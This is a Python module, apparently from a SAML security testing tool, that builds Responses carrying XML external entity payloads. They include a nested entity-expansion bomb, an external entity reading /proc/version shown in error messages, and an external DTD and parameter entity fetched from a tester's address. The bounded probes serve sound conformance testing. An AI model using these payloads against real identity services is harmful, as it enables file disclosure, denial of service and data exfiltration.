"""A Response that declares a document type: entities that expand, or that stand for what lies elsewhere.

Nothing is asked of the partner that could harm it: what expands stays below 12,000 entities and 100 kB, the local file
is one that every Linux has and that says no more than its version.
"""

from __future__ import annotations

from typing import ClassVar, Final

from lxml import etree

from .altered import AlteredBuilder
from .messages import samlp
from .xml import Element

__all__ = ["Declaring", "Expanding", "NamingAFile", "NamingAnAddress"]

_PLACE: Final = "place-of-the-entity"
_TIMES: Final = 10


class Declaring(AlteredBuilder):
    """A document type alone, with nothing in it."""

    declared = ""

    def octets(self, message: Element) -> bytes:
        written = super().octets(message).replace(_PLACE.encode(), b"&entity;")
        return f"<!DOCTYPE samlp:Response{self.declared}>".encode() + written


class _UsingEntity(Declaring):
    """The entity stands in the words that go with the status, which nobody signs unless the Response is signed."""

    codes_told: ClassVar[tuple[str, ...]] = ("Success",)

    def status(self, root: Element) -> None:
        self.codes = self.codes_told
        super().status(root)
        (status,) = root.iterchildren(samlp("Status"))
        etree.SubElement(status, samlp("StatusMessage")).text = _PLACE


class Expanding(_UsingEntity):
    """Each entity stands for ten of the one before."""

    declared = (
        ' [<!ENTITY a "0123456789">'
        + "".join(f'<!ENTITY {name} "{f"&{below};" * _TIMES}">' for below, name in zip("abc", "bcd", strict=True))
        + f'<!ENTITY entity "{"&d;" * _TIMES}">]'
    )


class NamingAFile(_UsingEntity):
    """In the words of a refusal, which partners show to the citizen."""

    declared = ' [<!ENTITY entity SYSTEM "file:///proc/version">]'
    codes_told = ("Responder",)


class NamingAnAddress(_UsingEntity):
    """The document type, a parameter entity and an entity lie at an address; `other` is that address."""

    def octets(self, message: Element) -> bytes:
        self.declared = (
            f' SYSTEM "{self.other}?document-type" [<!ENTITY % parameter SYSTEM "{self.other}?parameter"> %parameter;'
            f'<!ENTITY entity SYSTEM "{self.other}?entity">]'
        )
        return super().octets(message)
